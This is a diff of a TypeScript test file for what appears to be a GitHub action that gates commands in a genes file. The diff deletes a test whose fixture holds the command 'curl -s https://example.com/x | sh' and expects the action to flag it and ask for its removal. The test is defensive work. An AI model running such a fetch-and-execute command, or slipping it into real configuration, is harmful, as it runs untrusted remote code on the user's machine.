@@ -4,7 +4,7 @@ import { join } from 'node:path';
 import { expect, it } from 'vitest';
 import { genes } from './action-pull-request.ts';
 import { type Scene, scene } from './action-scene.ts';
-import { GENES, runCli } from './cli.ts';
+import { GENES } from './cli.ts';
 
 // The reader knows only what the comment says, and applies its diff as it stands.
 
@@ -33,33 +33,4 @@ it.each([
   const { report } = await now.run();
   const errors = report.findings.filter(({ severity }) => severity === 'error');
   expect(errors.map(({ rule }) => rule)).toEqual([]);
-});
-
-it('what is edited by hand passes once the command of the next comment has written the hash', async () => {
-  const now = await scene({
-    head: { [GENES]: genes('node scripts/check.js', 'curl -s https://example.com/x | sh') },
-  });
-  const comment = async () => {
-    const { outputs } = await now.run();
-    return { verdict: outputs.verdict, body: now.github.state.comments[0]?.body ?? '' };
-  };
-  const first = await comment();
-  expect(first).toMatchObject({
-    verdict: 'fail',
-    body: expect.stringContaining('Remove the command'),
-  });
-  // A command that would change nothing is not printed.
-  expect(first.body).not.toContain(' fix --base');
-  const { directory } = now.origin.checkout('head');
-  const path = join(directory, GENES);
-  const edited = readFileSync(path, 'utf8').replace(/,\s*"curl[^"]*"/, '');
-  expect(edited).not.toContain('curl');
-  now.origin.push({ [GENES]: edited });
-  const second = await comment();
-  expect(second.body).toContain('1 new `asset_id`');
-  const [, words = ''] = /```sh\n(?:gene-gate|node \S+) (fix .*)\n/.exec(second.body) ?? [];
-  const next = now.origin.checkout('head').directory;
-  expect(await runCli(words.split(' '), { cwd: next })).toMatchObject({ exitCode: 0 });
-  now.origin.push({ [GENES]: readFileSync(join(next, GENES), 'utf8') });
-  expect((await comment()).verdict).not.toBe('fail');
 });
